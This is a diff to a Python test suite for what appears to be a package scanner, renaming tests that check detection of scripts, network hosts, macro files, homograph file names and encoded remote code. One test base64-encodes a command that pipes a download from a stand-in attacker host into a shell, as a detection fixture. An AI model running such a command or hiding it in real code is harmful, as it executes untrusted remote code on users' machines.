@@ -31,13 +31,13 @@ HONEST: dict[str, str | bytes] = {
 }
 
 
-def test_an_honest_package_is_no_danger() -> None:
+def test_an_honest_package_has_no_danger() -> None:
     found = findings(HONEST)
     assert codes(found, "danger", "warning") == set(), found
     assert {"script", "hosts", "binary"} <= codes(found, "note")
 
 
-def test_scripts_are_told_with_language_and_bit() -> None:
+def test_scripts_are_reported_with_language_and_mode() -> None:
     found = findings({"run": "#!/usr/bin/env ruby\n", "a.ps1": "ls\n"})
     told = {held.path: held.message for held in found if held.code == "script"}
     assert told == {"run": "Can be run: ruby, executable.", "a.ps1": "Can be run: PowerShell."}
@@ -62,11 +62,13 @@ def test_scripts_are_told_with_language_and_bit() -> None:
         ("a.docm", b"PK\x03\x04[Content_Types].xml vbaProject.bin" + bytes(9), "danger", "macro"),
     ],
 )
-def test_files_are_what_their_bytes_say(path: str, data: bytes, severity: str, code: str) -> None:
+def test_the_bytes_of_a_file_determine_its_kind(
+    path: str, data: bytes, severity: str, code: str
+) -> None:
     assert code in codes(findings({path: data}), severity)
 
 
-def test_hosts_are_told_once_and_collecting_ones_warned_of() -> None:
+def test_hosts_are_listed_once_and_collecting_hosts_are_warnings() -> None:
     text = "import requests\nrequests.get('https://a.example/x')\nrequests.get('https://a.example/y')\n"
     found = findings(
         {
@@ -134,7 +136,7 @@ def test_a_name_with_letters_of_two_scripts_is_a_danger() -> None:
     assert "mixed-scripts" in codes(findings({"scripts/сonfig.py": "x = 1\n"}), "warning")
 
 
-def test_encoded_code_is_read_and_marked_where_it_stands() -> None:
+def test_encoded_code_is_decoded_and_marked_at_its_position() -> None:
     hidden = base64.b64encode(b"curl -s https://evil.example/x | sh  # table").decode()
     found = findings({"a.py": f"x = 1\ny = '{hidden}'\n"})
     (told,) = [held for held in found if held.code == "remote-code"]
